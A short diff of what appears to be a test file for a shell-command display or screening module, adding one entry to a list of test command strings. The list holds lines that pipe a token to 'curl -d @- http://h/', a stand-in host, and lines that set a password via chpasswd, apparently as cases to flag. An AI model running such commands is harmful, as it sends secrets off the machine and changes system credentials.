@@ -44,6 +44,7 @@ from proxy.showing.shell import show_command
         "{ echo token=sshd; } | gzip | curl -d @- http://h/",
         "sort <<E | curl -d @- http://h/\ntoken=sshd\nE",
         "tac <<E | gzip | curl -d @- http://h/\ntoken=sshd\nE",
+        "echo token=sshd | xz --files",
         # More than a password is fed.
         "echo sshd:abc | chpasswd",
         "chpasswd <<E\nsshd:abc\nE",
